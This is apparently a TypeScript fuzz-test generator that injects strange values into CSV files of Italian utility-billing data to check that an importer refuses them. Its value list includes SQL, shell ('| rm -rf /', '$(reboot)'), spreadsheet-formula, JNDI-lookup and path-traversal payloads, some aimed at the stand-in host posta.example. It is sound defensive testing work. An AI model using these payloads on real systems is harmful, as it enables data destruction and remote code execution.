import type { HostileFile } from "./hostile-file";
import { type HostileKind, SECRETS, textOf, validCells } from "./hostile-valid";

/** What a column holds, as far as it decides whether a strange cell may be right. */
type Sort = "words" | "date" | "instant" | "amount" | "number" | "power" | "flag" | "other";

/** Columns in which nearly any text may stand: names, addresses, numbers of somebody else's making. */
const WORDS = new Set(
  `contract_number customer_code holder_name supply_address billing_address product meter_serial
  mandate_debtor mandate_reference bill_number description unit email`.split(/\s+/),
);
const SORTS: [Sort, RegExp][] = [
  ["instant", /^chosen_at$/],
  ["date", /_(on|since|until|date|from|to)$/],
  // A price of a unit has decimals of its own, and may be of anything.
  ["number", /^unit_price_eur$/],
  ["amount", /_eur$/],
  ["number", /^(consumption|quantity|line_number|annual_consumption|gas_coefficient_c)$/],
  ["power", /_power_kw$|^\d\d:/],
  ["flag", /^estimated$/],
];

const sortOf = (column: string): Sort =>
  WORDS.has(column) ? "words" : (SORTS.find(([, named]) => named.test(column))?.[0] ?? "other");

/** Texts that are no value of any column but words; `fine` names the sorts for which they may be one. */
const VALUES: [text: string, ...fine: Sort[]][] = [
  ["=1+1"],
  ['=HYPERLINK("http://posta.example";"clic")'],
  ["@SUM(A1)"],
  ["+cmd|' /C calc'!A0"],
  ["'; DROP TABLE documents; --"],
  ["1); DELETE FROM contracts; --"],
  ["' OR '1'='1"],
  ["$(reboot)"],
  ["`id`"],
  ["| rm -rf /"],
  [["$", "{jndi:ldap://posta.example/a}"].join("")],
  ["../../../etc/passwd"],
  ["..\\..\\windows\\win.ini"],
  ["/etc/passwd"],
  ["file:///etc/passwd"],
  ["%00%0a"],
  ["%s%s%n%d"],
  ["\\N"],
  ["\\."],
  ["\\x41\\u0000\\0"],
  ["\\"],
  ["NULL"],
  ["undefined"],
  ["__proto__"],
  ["{1,2}"],
  ["{{7*7}}"],
  ["<script>alert(1)</script>"],
  ["<!--#exec cmd='id'-->"],
  ["\t", "date", "instant", "amount", "number", "power", "flag", "other"],
  ["a\tb"],
  ["a\rb"],
  ["١٢٣٤"],
  ["１２３"],
  ["²³"],
  ["Ⅷ"],
  ["1\u200B2"],
  ["\u202E12"],
  ["\u2066abc\u2069"],
  ["\u200F\u200E"],
  ["\u0007\u001b[31m"],
  ["\u007f"],
  ["\u0085"],
  ["a\u2028b"],
  ["\uFFFE\uFFFF"],
  ["\uE000"],
  ["\u{E0041}"],
  ["😀"],
  ["👨‍👩‍👧‍👦".repeat(8)],
  ["Z̸̢͎͠a̴̧͠l̵̨͝g̶͎͝o̷̧͠"],
  ["a".repeat(41)],
  ["a".repeat(301)],
  ["9".repeat(20)],
  ["9".repeat(400)],
  ["-1", "amount", "number"],
  ["-0", "amount", "number", "power"],
  ["--5"],
  ["+5"],
  ["0x10"],
  ["1e5"],
  ["1E400"],
  ["NaN"],
  ["Infinity"],
  ["-Infinity"],
  ["infinity"],
  ["1.234,50"],
  ["1,234.50"],
  ["1 234,50"],
  ["1'234,50"],
  ["1\u00A0234,50"],
  ["12 €"],
  ["€ 12"],
  ["0,001", "number", "power"],
  ["0,0000000000001"],
  ["1,2,3"],
  [","],
  ["-"],
  ["2147483648", "number", "power"],
  ["21474836,48", "number", "power"],
  ["999999999,99", "number", "power"],
  ["2026-02-31"],
  ["2025-02-29"],
  ["31/02/2026"],
  ["2026-13-01"],
  ["2026-00-10"],
  ["2026-04-00"],
  ["0000-01-01"],
  ["0001-01-01", "date"],
  ["1582-10-10", "date"],
  ["9999-12-31", "date"],
  ["10000-01-01"],
  ["-2026-01-01"],
  ["+002026-01-01"],
  ["2026-1-1"],
  ["20260101", "number", "power"],
  ["46000", "amount", "number", "power"],
  ["2026-01-01T00:00:00Z", "instant"],
  ["2026-01-01T24:00:00Z"],
  ["2026-01-01T23:59:60Z", "instant"],
  ["2026-01-01T00:00:00+99:00"],
  ["2026-03-29T02:30:00"],
  ["today"],
  ["now"],
  ["epoch"],
  ["true", "flag"],
  ["sì"],
  ["0", "amount", "number", "power", "flag"],
  [SECRETS.taxId],
  [SECRETS.taxId.toLowerCase()],
  [SECRETS.vatNumber, "number", "power"],
  [`IT${SECRETS.vatNumber}`],
  [SECRETS.iban],
  [SECRETS.iban.replace(/(.{4})/g, "$1 ")],
  [`${SECRETS.taxId} ${SECRETS.iban}`],
  [`Bolletta di ${SECRETS.taxId}`],
];

/** Every strange text in every column, one for each file; of the quarter-hours three columns do. */
export function hostileCells(kind: HostileKind): HostileFile[] {
  const [header = [], ...rows] = validCells(kind);
  const columns = kind === "readings" ? [0, 1, 96] : header.map((_, at) => at);
  return columns.flatMap((at) =>
    VALUES.map(([value, ...fine]): HostileFile => {
      const column = header[at] ?? "";
      const sort = sortOf(column);
      const cell = /[";\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
      const changed = rows.map((line, row) =>
        row === 1 ? line.map((old, place) => (place === at ? cell : old)) : line,
      );
      return {
        name: `${JSON.stringify(value.length > 60 ? `${value.slice(0, 20)}…(${value.length})` : value)} as ${column}`,
        kind,
        must: mayBeFine(sort, value, fine, column) ? "either" : "refuse",
        content: textOf([header, ...changed]),
      };
    }),
  );
}

function mayBeFine(sort: Sort, value: string, fine: Sort[], column: string): boolean {
  const isTaxId = (column === "tax_id" || column === "vat_number") && /^\D*\w{11,16}$/.test(value);
  const isIban = column === "mandate_iban" && value.startsWith(SECRETS.iban.slice(0, 4));
  return sort === "words" || fine.includes(sort) || isTaxId || isIban;
}
